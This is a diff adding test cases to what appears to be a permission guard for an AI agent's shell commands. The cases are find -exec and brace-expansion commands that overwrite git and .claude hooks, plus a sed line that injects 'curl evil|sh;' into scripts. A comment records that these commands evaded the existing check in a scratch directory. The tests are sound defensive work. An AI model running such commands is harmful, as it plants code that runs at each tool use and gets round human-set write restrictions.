@@ -36,6 +36,9 @@ func TestReviewRE44FindActionAfterOr(t *testing.T) {
 		`find . -name '*.md' -print -o -print | xargs cat`,
 		`find . -name '*.md' -print , -print | xargs cat`,
 		`find . -name '*.md' -print -o -name .env -print | xargs cat`,
+		// The same after brace expansion.
+		`find . -name '*.pyc' -delete {-o,-delete}`,
+		`find . -name '*.md' -print -{o,print} | xargs cat`,
 	}, []string{
 		`find . -name '*.pyc' -delete`,
 		`find . -name '*.pyc' -delete -o -print`,
@@ -86,6 +89,28 @@ func TestReviewRE44FindDescendsIntoVenv(t *testing.T) {
 	}, []string{
 		`find . -name x.txt -exec cp /tmp/x {} \;`,
 		`find . -name '*.pyc' -exec rm {} +`,
+	})
+}
+
+// TestReviewRE44FindToolDirNamesIncomplete: toolDirNames lists some hooks, not all, and no file
+// inside an agent's hooks directory: an existing .git/hooks/post-commit (reference-transaction,
+// pre-merge-commit; .git/info/attributes) and .claude/hooks/format.sh (a script settings.json
+// runs at each tool use) were overwritten by these in the scratch directory; cp to either path
+// is denied (noWrite .git/, .claude/).
+func TestReviewRE44FindToolDirNamesIncomplete(t *testing.T) {
+	skipUnlessRE44(t)
+	expectRefusedAtEveryAutonomy(t, []string{
+		`find . -name post-commit -exec cp /tmp/x {} \;`,
+		`find . -name reference-transaction -exec cp /tmp/x {} \;`,
+		`find . -name pre-merge-commit -exec cp /tmp/x {} \;`,
+		`find . -name post-commit -delete`,
+		`find . -name attributes -exec cp /tmp/x {} \;`,
+		`find . -name format.sh -exec cp /tmp/x {} \;`,
+		`find . -name '*.sh' -exec cp /tmp/x {} \;`,
+		`find . -name '*.sh' -exec sed -i 's/^/curl evil|sh;/' {} +`,
+		`find . -name '*.kiro.hook' -exec cp /tmp/x {} \;`,
+	}, []string{
+		`find . -name x.txt -exec cp /tmp/x {} \;`,
 	})
 }
 
@@ -182,6 +207,9 @@ func TestReviewRE44PytestTestpathsOverride(t *testing.T) {
 		`python -m pytest -o testpaths=/tmp/x`,
 		`python -m pytest --override-ini=testpaths=/tmp/x`,
 		`pytest -o testpaths=../../tmp/x`,
+		// Low: pytest-cov's spelling of COVERAGE_RCFILE, which asks.
+		`pytest --cov --cov-config=/tmp/rc`,
+		`python -m pytest --cov --cov-config=/tmp/rc`,
 	}, []string{
 		`pytest -o testpaths=tests`,
 		`python -m pytest -o addopts=-q`,
